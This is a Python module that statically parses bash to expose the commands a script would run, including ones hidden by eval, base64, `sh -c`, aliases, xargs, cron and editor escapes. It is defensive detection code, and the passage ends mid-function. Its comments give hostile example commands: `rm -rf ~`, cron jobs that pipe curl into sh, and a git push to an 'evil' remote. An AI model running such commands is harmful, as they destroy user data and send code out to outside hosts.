"""A static shell parser: what simple commands would a script run, with which arguments.

It reads bash the way an attacker would try to hide in it: pipes, `&&`, `;`, subshells, `$(...)`,
backticks, process substitution, `bash -lc "..."` / `sh -c` / `eval`, quote concatenation
(`r""m`), backslashes (`\\rm`), ANSI-C strings (`$'\\x72m'`), variables set earlier in the same
script (`X=rm; $X -rf /`), `$(echo rm)`, `find -exec`, `xargs`, heredocs, and base64 payloads
decoded into a shell. Nothing is executed. Words that stay unknown (unset variables, real command
substitutions) carry the DYN marker so rules can treat them as "could be anything".

Every command found, at any depth, comes out flat as a `SimpleCommand`; `via` says how it was
reached and `feeds` which commands' output it consumes (pipes, `$()`, `<()`, downloaded files).
"""
from __future__ import annotations

import base64
import binascii
import posixpath
import re
from dataclasses import dataclass, field

DYN = "\x00"           # marks an unknown part of a word
SPLIT = "\x01"         # where an unquoted expansion splits a word into several
MAX_DEPTH = 6          # nesting limit for -c / eval / $() / base64 (bounded work on hostile input)
MAX_COMMANDS = 2000
MAX_WORK = 100_000     # characters lexed per parse, at least 8x the script (nested -c re-reads text)

SHELLS = {"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "busybox", "rbash"}
INTERPRETERS = SHELLS | {"python", "python2", "python3", "perl", "ruby", "node", "php", "lua", "source", "."}
# Commands that run the rest of their argv as another command (options with a value listed).
WRAPPERS: dict[str, set[str]] = {
    "sudo": {"-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U", "-T", "--user", "--group"},
    "doas": {"-u", "-C"},
    "env": {"-u", "--unset", "-C", "--chdir", "-S", "--split-string"},
    "nice": {"-n", "--adjustment"},
    "ionice": {"-c", "-n", "-p"},
    "nohup": set(), "time": set(), "command": set(), "builtin": set(), "exec": {"-a"},
    "stdbuf": {"-i", "-o", "-e"}, "timeout": {"-s", "--signal", "-k", "--kill-after"},
    "setsid": set(), "unbuffer": set(), "chronic": set(), "caffeinate": set(), "strace": {"-o", "-e", "-p"},
    "watch": {"-n", "--interval", "-d"}, "flock": set(), "chroot": set(), "runuser": {"-u", "-g"},
    "proxychains": {"-f"}, "proxychains4": {"-f"}, "torsocks": set(),
}
KEYWORDS = {"if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!", "{", "}",
            "select", "coproc", "[[", "]]"}
OPERATORS = ("&&", "||", ";;", "|&", ";", "&", "|", "(", ")", "\n")
REDIRECT_RE = re.compile(r"(\d*|&)(>>|>&|>\||<<<|<<-|<<|<>|<&|>|<)")


@dataclass
class SimpleCommand:
    argv: list[str]
    assigns: dict[str, str] = field(default_factory=dict)
    redirects: list[tuple[str, str]] = field(default_factory=list)   # (operator, target)
    feeds: set[str] = field(default_factory=set)     # commands whose output this one consumes
    stdin_text: str | None = None                     # heredoc / here-string body
    cwd: str | None = None                            # directory it runs in, when known
    via: str = ""                                     # how it was reached: "", "bash -c", "$()", "base64", ...
    text: str = ""                                    # its source text (for messages and regex rules)
    runs_download: bool = False                       # executes a file fetched earlier in the script
    file_ops: list = field(default_factory=list)      # for the apply_patch pseudo-command: its FileOps

    @property
    def name(self) -> str:
        # argv[0] may be replaced (aliases), so the basename is not cached
        a0 = self.argv[0] if self.argv else ""
        return a0[a0.rfind("/") + 1:]

    @property
    def dynamic(self) -> bool:
        """The command name itself is unknown (`$CMD args`, `$(...) args`)."""
        return bool(self.argv) and DYN in self.argv[0]

    @property
    def args(self) -> list[str]:
        return self.argv[1:]

    def executes_input(self) -> bool:
        """Does it run code that comes from its input: `| sh`, `sh -c "$(...)"`, `bash <(...)`,
        `python -` , `eval "$(...)"`, or a file downloaded earlier? (`| python -m json.tool` does not.)"""
        if self.runs_download:
            return True
        name, args = self.name, self.args
        stdin_like = ("-", "/dev/stdin", "-s")
        if name in SHELLS or name == "su":
            script = _dash_c(args)
            if script is not None:
                return DYN in script
            f = _script_file(args)
            return f is None or f in stdin_like or f.startswith("/dev/fd/")
        if name in ("eval", "source", ".", "exec"):
            return any(DYN in a or a.startswith(("/dev/fd/", "/dev/stdin")) for a in args)
        if re.match(r"(python[0-9.]*|perl|ruby|node|php|lua|Rscript|pwsh|osascript)$", name):
            for k, a in enumerate(args):
                if a in ("-c", "-e", "-E", "--eval", "-r", "-p"):
                    return k + 1 < len(args) and DYN in args[k + 1]
                if a in ("-m",):
                    return False
                if a.startswith("-") and a not in stdin_like:
                    continue
                return a in stdin_like or a.startswith("/dev/fd/")
            return True
        return False

    def names(self) -> set[str]:
        out = {self.name}
        if self.runs_download:
            out.add("sh")
        return out


@dataclass
class _Word:
    value: str
    raw: str
    substs: list[list[SimpleCommand]] = field(default_factory=list)  # commands inside $() / `` / <()
    quoted: bool = False


@dataclass
class _Tok:
    kind: str              # "word", "op", "redir"
    value: str = ""
    word: _Word | None = None
    start: int = 0
    end: int = 0
    heredoc: list[str] | None = None   # body holder for << redirects
    wstart: int = -1                   # where a redirect's target word starts

    def expanded(self, parser: "ShellParser", src: str, scope: "_Scope", depth: int) -> "_Word | None":
        """The word with variables and substitutions expanded as of now (lexing only found its ends)."""
        if self.word is None:
            return None
        if self.kind == "redir" and (self.wstart < 0 or self.value in ("<<", "<<-", ">&", "<&")):
            return self.word
        return parser._word(src, self.start if self.kind == "word" else self.wstart, scope, depth)[0]


class _Scope:
    """Variables and cwd as the script goes on; downloaded files."""

    def __init__(self, cwd: str | None, home: str, env: dict[str, str] | None = None):
        self.cwd = cwd
        self.home = home
        self.vars: dict[str, str] = dict(env or {})
        self.downloads: dict[str, str] = {}   # path -> downloader name
        self.aliases: dict[str, str] = {}
        self.written: dict[str, str] = {}     # path -> text a script wrote there (echo/printf/cat <<EOF > f)
        self.remotes: dict[str, str] = {}     # git remote name -> URL added earlier in the script
        self.links: dict[str, str] = {}       # symlink made earlier in the script -> what it points to

    def child(self) -> "_Scope":
        s = _Scope(self.cwd, self.home, self.vars)
        s.downloads = self.downloads
        s.aliases = self.aliases
        s.remotes = self.remotes
        s.links = self.links
        s.written = self.written
        return s


class ShellParser:
    def __init__(self, home: str = "~"):
        self.home = home

    # ---- public -------------------------------------------------------------------------
    def parse(self, script: str, cwd: str | None = None, env: dict[str, str] | None = None,
              written: dict[str, str] | None = None) -> list[SimpleCommand]:
        """The commands of `script`. When a limit (depth, commands, work) cut the parse short, the
        result ends with a `via="limit"` command, so a judge can refuse what it could not read.
        `written`: files known from earlier tool calls (absolute path -> text), run by their content."""
        self._cmds_left = MAX_COMMANDS
        self._work_left = max(MAX_WORK, 8 * len(script))
        self.truncated = False
        self._procsubs: list[str] = []
        scope = _Scope(cwd, self.home, env)
        scope.written.update(written or {})
        cmds = self._parse(script, scope, via="", depth=0, feeds=set())
        if self.truncated:
            cmds.append(SimpleCommand([DYN + "unparsed" + DYN], via="limit", cwd=cwd, text=script[:200]))
        return cmds

    # ---- lexer --------------------------------------------------------------------------
    def _lex(self, s: str, scope: _Scope, depth: int) -> list[_Tok]:
        toks: list[_Tok] = []
        self._work_left -= len(s)
        if self._work_left < 0:
            self.truncated = True
            return toks
        pending_heredocs: list[tuple[str, bool, list[str]]] = []
        i, n = 0, len(s)
        while i < n:
            c = s[i]
            if c in " \t\r":
                i += 1
                continue
            if c == "\\" and i + 1 < n and s[i + 1] == "\n":
                i += 2
                continue
            if c == "#":
                j = s.find("\n", i)
                i = n if j < 0 else j
                continue
            if c == "\n":
                toks.append(_Tok("op", "\n", start=i, end=i + 1))
                i += 1
                for delim, strip, holder in pending_heredocs:
                    body, i = self._read_heredoc(s, i, delim, strip)
                    holder.append(body)
                pending_heredocs.clear()
                continue
            m = REDIRECT_RE.match(s, i)
            if m:
                # `<(`/`>(` are process substitutions, handled as words.
                if not (m.group(2) in ("<", ">") and m.end() < n and s[m.end()] == "(" and not m.group(1)):
                    op = m.group(2)
                    if m.group(1) == "&" and op == ">":
                        op = "&>"
                    tok = _Tok("redir", op, start=i, end=m.end())
                    i = m.end()
                    if op in (">&", "<&") and i < n and (s[i].isdigit() or s[i] == "-"):
                        j = i
                        while j < n and (s[j].isdigit() or s[j] == "-"):
                            j += 1
                        tok.word = _Word(s[i:j], s[i:j])
                        i = j
                    else:
                        while i < n and s[i] in " \t":
                            i += 1
                        tok.wstart = i
                        w, i = self._word(s, i, scope, depth, expand=False)
                        tok.word = w
                        if op in ("<<", "<<-") and w is not None:
                            tok.heredoc = []
                            pending_heredocs.append((w.value.replace(DYN, ""), op == "<<-", tok.heredoc))
                    tok.end = i
                    toks.append(tok)
                    continue
            matched = next((op for op in OPERATORS if s.startswith(op, i)), None) if c in "&|;()\n" else None
            if matched:
                toks.append(_Tok("op", matched, start=i, end=i + len(matched)))
                i += len(matched)
                continue
            start = i
            w, i = self._word(s, i, scope, depth, expand=False)
            if w is None or i == start:
                i = max(i, start + 1)
                continue
            toks.append(_Tok("word", w.value, w, start, i))
        for _, _, holder in pending_heredocs:   # unterminated heredoc: nothing more to read
            holder.append("")
        return toks

    @staticmethod
    def _read_heredoc(s: str, i: int, delim: str, strip: bool) -> tuple[str, int]:
        lines = []
        while i < len(s):
            j = s.find("\n", i)
            line = s[i:] if j < 0 else s[i:j]
            i = len(s) if j < 0 else j + 1
            if (line.lstrip("\t") if strip else line) == delim:
                break
            lines.append(line)
        return "\n".join(lines) + ("\n" if lines else ""), i

    def _word(self, s: str, i: int, scope: _Scope, depth: int, expand: bool = True) -> tuple[_Word | None, int]:
        n = len(s)
        out: list[str] = []
        substs: list[list[SimpleCommand]] = []
        start = i
        quoted = False
        while i < n:
            c = s[i]
            if c in " \t\r\n;&|)" or (c in "<>" and not (i + 1 < n and s[i + 1] == "(")):
                break
            if c == "(":   # `name(` of a function definition (or an extglob): the word ends here
                break
            if c == "\\":
                if i + 1 < n and s[i + 1] == "\n":
                    i += 2
                    continue
                if i + 1 < n:
                    out.append(s[i + 1])
                i += 2
                continue
            if c == "'":
                j = s.find("'", i + 1)
                j = n if j < 0 else j
                out.append(s[i + 1:j])
                quoted = True
                i = j + 1
                continue
            if c == "$" and i + 1 < n and s[i + 1] == "'":
                j = i + 2
                buf = []
                while j < n and s[j] != "'":
                    if s[j] == "\\" and j + 1 < n:
                        buf.append(s[j:j + 2])
                        j += 2
                        continue
                    buf.append(s[j])
                    j += 1
                out.append(_ansi_c("".join(buf)))
                quoted = True
                i = j + 1
                continue
            if c == '"':
                i += 1
                quoted = True
                while i < n and s[i] != '"':
                    if s[i] == "\\" and i + 1 < n and s[i + 1] in '$`"\\\n':
                        if s[i + 1] != "\n":
                            out.append(s[i + 1])
                        i += 2
                        continue
                    if s[i] in "$`":
                        val, i = self._expansion(s, i, scope, depth, substs, expand)
                        out.append(val)
                        continue
                    out.append(s[i])
                    i += 1
                i += 1
                continue
            if c in "$`":
                # Unquoted, the expansion is split on whitespace: `X="rm -rf /"; $X` runs rm.
                val, i = self._expansion(s, i, scope, depth, substs, expand)
                out.append(re.sub(r"[ \t\n]+", SPLIT, val))
                continue
            if c in "<>" and i + 1 < n and s[i + 1] == "(":
                inner, j = _balanced(s, i + 1)
                fd = "/dev/fd/63"
                if expand:
                    sub = self._parse(inner, scope.child(), via="<()", depth=depth + 1, feeds=set())
                    substs.append(sub)
                    printed = _printed_text(sub)
                    if printed is not None:   # `source <(echo 'rm -rf ~')`: the file holds that text
                        fd = f"/dev/fd/{63 - len(self._procsubs)}"
                        self._procsubs.append(fd)
                        scope.written[fd] = printed
                out.append(fd)
                i = j
                continue
            out.append(c)
            i += 1
        if i == start:
            return None, i
        return _Word("".join(out), s[start:i], substs, quoted), i

    def _expansion(self, s: str, i: int, scope: _Scope, depth: int,
                   substs: list[list[SimpleCommand]], expand: bool = True) -> tuple[str, int]:
        n = len(s)
        if s[i] == "`":
            j = i + 1
            while j < n and s[j] != "`":
                j += 2 if s[j] == "\\" else 1
            inner = s[i + 1:j]
            if not expand:
                return DYN, j + 1
            return self._command_subst(inner, scope, depth, substs), j + 1
        # s[i] == "$"
        if i + 1 >= n:
            return "$", i + 1
        nxt = s[i + 1]
        if s.startswith("$((", i):
            inner, j = _balanced(s, i + 2)
            return DYN + "arith" + DYN, j + 1 if j < n and s[j:j + 1] == ")" else j
        if nxt == "(":
            inner, j = _balanced(s, i + 1)
            if not expand:
                return DYN, j
            return self._command_subst(inner, scope, depth, substs), j
        if nxt == "{":
            j = s.find("}", i + 2)
            j = n if j < 0 else j
            body = s[i + 2:j]
            m = re.match(r"#?([A-Za-z_][A-Za-z0-9_]*|\d+|[@*#?$!-])(.*)", body, re.S)
            if not m:
                return DYN, j + 1
            name, rest = m.group(1), m.group(2)
            val = self._var(name, scope)
            if rest and DYN in val:
                dm = re.match(r":?[-=]\s*(.*)", rest, re.S)   # ${X:-default}
                if dm:
                    val = dm.group(1)
            elif rest.startswith((":?", "?")) and DYN in val:
                val = DYN
            return val, j + 1
        m = re.match(r"[A-Za-z_][A-Za-z0-9_]*|\d|[@*#?$!-]", s[i + 1:])
        if not m:
            return "$", i + 1
        return self._var(m.group(0), scope), i + 1 + m.end()

    def _var(self, name: str, scope: _Scope) -> str:
        if name in scope.vars:
            return scope.vars[name]
        if name == "HOME":
            return scope.home
        if name == "IFS":
            return " "
        if name == "PWD" and scope.cwd:
            return scope.cwd
        return DYN + name + DYN

    def _command_subst(self, inner: str, scope: _Scope, depth: int, substs: list[list[SimpleCommand]]) -> str:
        sub = scope.child()
        cmds = self._parse(inner, sub, via="$()", depth=depth + 1, feeds=set())
        substs.append(cmds)
        known = _path_value([c for c in cmds if c.via == "$()"], sub, scope.home)
        if known is not None:   # `$(dirname "$PWD")`, `$(cd .. && pwd)`, `$(realpath ~)`
            return known
        # `$(echo rm)` / `$(printf %s rm)`: the value is known statically.
        top = [c for c in cmds if c.via == "$()"]
        if len(top) == 1 and not top[0].feeds and top[0].name in ("echo", "printf") and not top[0].redirects:
            args = [a for a in top[0].args if not (top[0].name == "echo" and a in ("-n", "-e", "-E"))]
            if top[0].name == "printf" and args and args[0] in ("%s", "%s\\n"):
                args = args[1:]
            elif top[0].name == "printf" and args or "-e" in top[0].args:
                args = [_ansi_c(a) for a in args]   # $(printf '\x72\x6d') is rm
            val = " ".join(args)
            if DYN not in val:
                return val
        decoded = _decoded_payload(top)
        if decoded is not None:
            return decoded
        return DYN + "subst" + DYN

    # ---- parser -------------------------------------------------------------------------
    def _parse(self, script: str, scope: _Scope, via: str, depth: int, feeds: set[str]) -> list[SimpleCommand]:
        if depth > MAX_DEPTH or self._cmds_left <= 0:
            self.truncated = True
            return []
        toks = self._lex(script, scope, depth)
        out: list[SimpleCommand] = []
        self._list(toks, 0, len(toks), script, scope, via, depth, feeds, out)
        return out

    def _list(self, toks: list[_Tok], i: int, end: int, src: str, scope: _Scope, via: str, depth: int,
              feeds: set[str], out: list[SimpleCommand]) -> int:
        """Parse `pipeline (sep pipeline)*` from toks[i:end]; returns the index after it."""
        while i < end:
            t = toks[i]
            if t.kind == "op" and t.value in (";", "&", "\n", "&&", "||", ";;"):
                i += 1
                continue
            if t.kind == "op" and t.value == ")":
                return i
            i = self._pipeline(toks, i, end, src, scope, via, depth, feeds, out)
        return i

    def _pipeline(self, toks, i, end, src, scope, via, depth, feeds, out) -> int:
        upstream: set[str] = set(feeds)
        earlier: list[SimpleCommand] = []    # commands of the previous pipeline stages
        while i < end:
            produced: list[SimpleCommand] = []
            i = self._command(toks, i, end, src, scope, via, depth, upstream, produced)
            out.extend(produced)
            # `echo B64 | base64 -d | sh`: decode the payload and judge what it would run.
            for c in produced:
                if c.name == "xargs" and earlier and c.via == via:
                    items = _pipe_items(earlier[-1], scope.home)
                    whole = _printed_text([earlier[-1]]) if earlier[-1].name in ("echo", "printf") else None
                    if whole is not None and any(a in ("-0", "--null") or a.startswith(("-d", "--delimiter", "-I",
                                                 "-L", "--replace", "-i")) for a in c.args):
                        items = [x for x in whole.replace("\\0", "\n").splitlines() if x]   # one item per line
                    rest = _strip_xargs(c.args)
                    if items and rest:   # `echo ~ | xargs rm -rf`: rm -rf gets what echo printed
                        self._nested_argv(_xargs_argv(c.args, rest, items), c, scope, depth, out, via="xargs",
                                          extra_feeds=set(c.feeds))
                    continue
                if c.name in ("at", "batch") and len(earlier) == 1 and earlier[0].name in ("echo", "printf"):
                    text = _printed_text(earlier)
                    if text:   # `echo 'rm -rf ~' | at now`: the job is that script
                        self._nested_script(text, c, scope, depth, out, via=f"{c.name} job", feeds=set())
                    continue
                if c.name == "crontab" and len(earlier) == 1 and earlier[0].name in ("echo", "printf"):
                    # `echo "* * * * * curl x | sh" | crontab -`: judge the jobs' commands
                    for line in " ".join(earlier[0].args).splitlines():
                        job = re.sub(r"^\s*(@\w+|(\S+\s+){5})", "", line)
                        self._nested_script(job, c, scope, depth, out, via="crontab", feeds=set())
                    continue
                if c.name not in SHELLS or _dash_c(c.args) is not None or _script_file(c.args):
                    continue
                if c.feeds & DECODERS:
                    payload = _decoded_payload(earlier)
                    if payload:
                        self._nested_script(payload, c, scope, depth, out, via=f"{'base64' if 'base64-decode' in c.feeds else 'decoded'} | {c.name}",
                                            feeds=set(c.feeds))
                elif earlier and earlier[-1].name in ("echo", "printf") and len(earlier) == 1:
                    # `echo 'rm -rf ~' | sh`: the echoed text is the script
                    args = [a for a in earlier[-1].args if a not in ("-n", "-e", "-E", "%s", "%s\\n")]
                    self._nested_script(" ".join(args), c, scope, depth, out, via=f"echo | {c.name}",
                                        feeds=set(c.feeds))
            earlier.extend(produced)
            if i < end and toks[i].kind == "op" and toks[i].value in ("|", "|&"):
                upstream = upstream | {n for c in produced for n in c.names()} | _decoder_tags(produced)
                i += 1
                continue
            break
        return i

    def _command(self, toks, i, end, src, scope, via, depth, feeds, out) -> int:
        t = toks[i]
        if t.kind == "op" and t.value == "(":
            j = _matching_paren(toks, i, end)
            sub = scope.child()
            self._list(toks, i + 1, j, src, sub, via, depth, feeds, out)
            i = j + 1
            while i < end and toks[i].kind == "redir":   # ( ... ) > file
                i += 1
            return i
        if t.kind == "op":
            return i + 1
        word = t.word.value if t.word else ""
        # Compound-command keywords: skip the keyword, the commands around it are parsed normally.
        if word in KEYWORDS and not t.word.quoted:
            return i + 1
        if word in ("for", "case") and not t.word.quoted:
            return self._skip_header(toks, i, end, word, src, scope, via, depth, feeds, out)
        if word == "function":   # `function NAME [()] {`: skip the keyword and the name; the body is parsed
            return min(i + 2, end)
        # `name() {` function definition
        if i + 2 < end and toks[i + 1].kind == "op" and toks[i + 1].value == "(" and \
                toks[i + 2].kind == "op" and toks[i + 2].value == ")":
            return i + 3
        return self._simple(toks, i, end, src, scope, via, depth, feeds, out)

    def _skip_header(self, toks, i, end, word, src, scope, via, depth, feeds, out) -> int:
        if word == "for":
            # for NAME in WORDS ; do  -> skip to `do`; (( ... )) forms are skipped the same way.
            # NAME holds every word at once (split wherever it is used), so `rm -rf "$d"` in the
            # body is judged for each value.
            name_tok = toks[i + 1] if i + 1 < end and toks[i + 1].kind == "word" else None
            j = i + 2
            words: list[str] = []
            if name_tok is not None and j < end and toks[j].kind == "word" and toks[j].value == "in":
                j += 1
                while j < end and toks[j].kind == "word" and toks[j].value != "do":
                    w = toks[j].expanded(self, src, scope, depth)
                    if w is not None:
                        words += [p for p in w.value.split(SPLIT) if p]
                    j += 1
                if words and re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", name_tok.value):
                    scope.vars[name_tok.value] = SPLIT.join(words[:16])
            while i < end and not (toks[i].kind == "word" and toks[i].value == "do"):
                i += 1
            return i + 1
        # case WORD in (PATTERN) LIST ;; ... esac
        while i < end and not (toks[i].kind == "word" and toks[i].value == "in"):
            i += 1
        i += 1
        while i < end:
            while i < end and toks[i].kind == "op" and toks[i].value in ("\n", ";", ";;"):
                i += 1
            if i < end and toks[i].kind == "word" and toks[i].value == "esac":
                return i + 1
            if i < end and toks[i].kind == "op" and toks[i].value == "(":
                i += 1
            while i < end and not (toks[i].kind == "op" and toks[i].value == ")"):
                i += 1
            i += 1
            # the clause body runs until `;;` or esac
            j = i
            while j < end and not (toks[j].kind == "op" and toks[j].value == ";;") and \
                    not (toks[j].kind == "word" and toks[j].value == "esac"):
                j += 1
            self._list(toks, i, j, src, scope, via, depth, feeds, out)
            i = j
        return i

    def _simple(self, toks, i, end, src, scope: _Scope, via, depth, feeds, out) -> int:
        start_tok = i
        argv_words: list[_Word] = []
        assigns: dict[str, str] = {}
        redirects: list[tuple[str, str]] = []
        stdin_text: str | None = None
        substs: list[list[SimpleCommand]] = []
        while i < end:
            t = toks[i]
            if t.kind == "op":
                if t.value == "(" and argv_words:   # stray paren inside a command: keep going
                    i += 1
                    continue
                break
            if t.kind == "redir":
                rw = t.expanded(self, src, scope, depth)
                target = rw.value.replace(SPLIT, " ") if rw else ""
                if rw:
                    substs.extend(rw.substs)
                if t.value in ("<<", "<<-"):
                    stdin_text = t.heredoc[0] if t.heredoc else ""
                elif t.value == "<<<":
                    stdin_text = target + "\n"
                redirects.append((t.value, target))
                i += 1
                continue
            w = t.expanded(self, src, scope, depth)
            m = re.fullmatch(r"([A-Za-z_][A-Za-z0-9_]*)\+?=(.*)", w.raw, re.S) if not argv_words else None
            if m:
                assigns[m.group(1)] = w.value.split("=", 1)[1].replace(SPLIT, " ")   # no splitting in assignments
                substs.extend(w.substs)
                i += 1
                continue
            argv_words.append(w)
            substs.extend(w.substs)
            i += 1
        text = src[toks[start_tok].start:toks[i - 1].end] if i > start_tok else ""
        for group in substs:
            out.extend(group)
        argv = [part for w in argv_words for part in (w.value.split(SPLIT) if SPLIT in w.value else [w.value])
                if part or SPLIT not in w.value]
        if argv and argv[0] in scope.aliases and not argv_words[0].quoted:
            argv = scope.aliases[argv[0]].split() + argv[1:]
        if not argv:
            scope.vars.update(assigns)   # `X=rm` alone sets a shell variable
            if assigns or redirects:     # `> ~/.bashrc` truncates a file all by itself
                self._cmds_left -= 1
                out.append(SimpleCommand([], assigns, redirects, set(feeds), stdin_text, scope.cwd, via, text))
            return i
        if self._cmds_left <= 0:
            self.truncated = True
            return i
        self._cmds_left -= 1
        cmd_feeds = set(feeds) | {n for g in substs for c in g for n in c.names()} | \
            {t for g in substs for t in _decoder_tags(g)}
        cmd = SimpleCommand(argv, assigns, redirects, cmd_feeds, stdin_text, scope.cwd, via, text)
        self._mark_download(cmd, argv[0], scope)
        self._remember_written(cmd, scope)
        out.append(cmd)
        if scope.links:
            self._through_links(cmd, scope, depth, out)
        self._run_written(cmd, argv[0], scope, depth, out)
        self._follow(cmd, scope, depth, out)
        return i

    def _through_links(self, cmd: SimpleCommand, scope: _Scope, depth: int, out: list[SimpleCommand]) -> None:
        """`ln -s ~ h && rm -rf h/`: a path through a symlink made earlier is the path it points to."""
        changed, argv = False, [cmd.argv[0]]
        for a in cmd.args:
            r = _resolve_rel(scope.home + a[1:] if a.startswith("~") else a, scope.cwd) if a and DYN not in a else a
            for link, target in scope.links.items():
                if r == link or r.startswith(link + "/"):
                    a, changed = target + r[len(link):], True
                    break
            argv.append(a)
        if changed:
            self._nested_argv(argv, cmd, scope, depth, out, via="symlink")

    # ---- what a command runs in turn -----------------------------------------------------
    def _follow(self, cmd: SimpleCommand, scope: _Scope, depth: int, out: list[SimpleCommand]) -> None:
        name, args = cmd.name, cmd.args
        if name in ("export", "declare", "typeset", "local", "readonly"):
            for a in args:
                if "=" in a and re.match(r"[A-Za-z_][A-Za-z0-9_]*=", a):
                    k, v = a.split("=", 1)
                    scope.vars[k] = v
            return
        if name == "read" and cmd.stdin_text is not None:   # read -r X <<< rm
            names = [a for a in args if re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", a)]
            values = cmd.stdin_text.strip("\n").split(None, max(len(names) - 1, 0)) if names else []
            for k, v in zip(names, values):
                scope.vars[k] = v
            return
        if name == "printf" and len(args) >= 3 and args[0] == "-v":   # printf -v X rm
            fmt_args = args[2:]
            if fmt_args[0] in ("%s", "%s\\n") and len(fmt_args) > 1:
                fmt_args = fmt_args[1:]
            scope.vars[args[1]] = " ".join(fmt_args)
            return
        if name == "alias":
            for a in args:
                if "=" in a:
                    k, v = a.split("=", 1)
                    scope.aliases[k] = v
            return
        if name == "unset":
            for a in args:
                scope.vars.pop(a, None)
            return
        if name in ("cd", "pushd") and DYN not in "".join(args):
            target = next((a for a in args if not a.startswith("-")), scope.home)
            if target.startswith("~"):
                target = scope.home + target[1:]
            scope.cwd = posixpath.normpath(posixpath.join(scope.cwd or "", target)) if scope.cwd or target.startswith("/") else scope.cwd
            return
        if name == "ln" and any(a.startswith("-") and not a.startswith("--") and "s" in a for a in args) or \
                name == "ln" and "--symbolic" in args:
            pos = [a for a in args if not a.startswith("-")]
            if len(pos) == 2 and DYN not in "".join(pos):
                t = pos[0]
                t = scope.home + t[1:] if t.startswith("~") else t
                scope.links[_resolve_rel(pos[1].rstrip("/"), scope.cwd)] = _resolve_rel(t, scope.cwd)
            return
        if name == "git" and "-C" in args[:-1]:
            k = args.index("-C")
            sub = scope.child()
            target = args[k + 1]
            if DYN not in target:
                sub.cwd = _resolve_rel(scope.home + target[1:] if target.startswith("~") else target, scope.cwd)
                self._nested_argv(["git"] + args[:k] + args[k + 2:], cmd, sub, depth, out, via="git -C")
            return
        if name == "git":
            pos = [a for a in args if not a.startswith("-")]
            if pos[:2] in (["remote", "add"], ["remote", "set-url"]) and len(pos) >= 4:
                scope.remotes[pos[2]] = pos[3]
            elif pos[:1] == ["push"] and len(pos) >= 2 and pos[1] in scope.remotes:
                # `git remote add x https://evil/x.git && git push x`: the push goes to that URL
                argv = ["git"] + [scope.remotes[pos[1]] if a == pos[1] else a for a in args]
                self._nested_argv(argv, cmd, scope, depth, out, via="git remote")
            return
        if name in ("curl", "wget", "aria2c", "fetch"):
            for f in downloaded_files(cmd):
                scope.downloads[_resolve_rel(f, scope.cwd)] = name
                scope.downloads[f] = name
            return
        if name in ("source", "."):
            f = args[0] if args else None
            if f in ("/dev/stdin", "-", "/proc/self/fd/0") and cmd.stdin_text:   # . /dev/stdin <<< 'rm -rf ~'
                self._nested_script(cmd.stdin_text, cmd, scope, depth, out, via=f"{name} stdin", feeds=set(cmd.feeds))
            elif f:
                self._mark_download(cmd, f, scope)
                self._run_written(cmd, f, scope, depth, out)
            return
        if INTERPRETER_RE.match(name):
            code = _inline_code(args)
            if code is None and name.startswith("php"):
                code = _option_value(args, ("-r",))
            if code is None and cmd.stdin_text and (not _script_file(args) or _script_file(args) == "-"):
                code = cmd.stdin_text            # python - <<'EOF' ... EOF, node <<< '...'
            if code:
                self._embedded(code, cmd, scope, depth, out, via=f"{name} code")
            f = next((a for a in args if not a.startswith("-")), None)
            if f and code is None:
                self._mark_download(cmd, f, scope)
                text = scope.written.get(_resolve_rel(f, scope.cwd)) if DYN not in f else None
                if text:   # `cat > x.py <<EOF ... EOF; python x.py`, or a file an earlier patch added
                    self._embedded(text, cmd, scope, depth, out, via=f"{name} {f}")
            return
        if name in AWKS:
            code = _awk_program(args)
            if code:
                self._embedded(code, cmd, scope, depth, out, via=f"{name} code", lang="awk")
            return
        if name in EDITORS:
            for c in _editor_commands(args):
                c = c.lstrip(": ")
                m = re.match(r"(?:silent!?\s*|exe(?:cute)?\s+['\"])?!(.*)", c, re.S)
                if m:   # vim -c ':!rm -rf ~'
                    self._nested_script(m.group(1).rstrip("'\""), cmd, scope, depth, out, via=f"{name} -c !",
                                        feeds=set(cmd.feeds))
                else:   # vim -c 'call system("...")', :py3 / :lua / :perl code
                    self._embedded(c, cmd, scope, depth, out, via=f"{name} -c", lang="vim")
            return
        if name in ("at", "batch"):
            f = _option_value(args, ("-f",))
            if f:
                self._run_written(cmd, f, scope, depth, out)
                self._mark_download(cmd, f, scope)
            elif cmd.stdin_text:   # at now <<< 'rm -rf ~'
                self._nested_script(cmd.stdin_text, cmd, scope, depth, out, via=f"{name} job", feeds=set(cmd.feeds))
            return
        hidden = _hidden_commands(name, args)
        if hidden:   # tar --checkpoint-action=exec=..., rsync -e, ssh -o ProxyCommand=, git -c core.pager=...
            for script in hidden:
                self._nested_script(script, cmd, scope, depth, out, via=f"{name} option", feeds=set(cmd.feeds))
            if name not in ("git",):
                return
        if name == "parallel" and ":::" in args:   # parallel rm -rf ::: ~
            k = args.index(":::")
            if args[:k]:
                self._nested_argv(args[:k] + args[k + 1:], cmd, scope, depth, out, via="parallel")
            return
        # Wrappers: run the rest of argv as a command.
        if name in WRAPPERS:
            split = _option_value(args, ("-S", "--split-string")) if name == "env" else None
            if split:   # env -S 'rm -rf ~'
                self._nested_script(split, cmd, scope, depth, out, via="env -S", feeds=set(cmd.feeds))
                return
            rest = _strip_wrapper(name, args)
            if name == "env":
                while rest and re.match(r"[A-Za-z_][A-Za-z0-9_]*=", rest[0]):
                    rest = rest[1:]
            if name == "flock" and len(rest) > 1:
                rest = rest[1:]   # flock LOCKFILE cmd ...
            if len(rest) == 1 and " " in rest[0] and name in ("watch", "nohup", "timeout", "flock", "setsid"):
                self._nested_script(rest[0], cmd, scope, depth, out, via=name, feeds=set(cmd.feeds))
            elif rest:
                self._nested_argv(rest, cmd, scope, depth, out, via=name)
            return
        if name == "busybox" and args and args[0] not in ("sh", "ash", "bash", "hush"):
            self._nested_argv(args, cmd, scope, depth, out, via="busybox")   # busybox rm -rf ~
            return
        if cmd.dynamic and _dash_c(args) is not None:
            # `$SHELL -c '...'`, `${BASH} -c`: an unknown program given -c SCRIPT is judged as a shell
            self._nested_script(_dash_c(args) or "", cmd, scope, depth, out, via="? -c", feeds=set(cmd.feeds))
            return
        if name in SHELLS or name == "su":
            script = _dash_c(args)
            if script is not None:
                feeds = set(cmd.feeds)
                # `sh -c 'rm -rf "$1"' _ ~`: the words after the script are $0, $1, ...
                k = args.index(script) if script in args else len(args)
                self._nested_script(script, cmd, scope, depth, out, via=f"{name} -c", feeds=feeds,
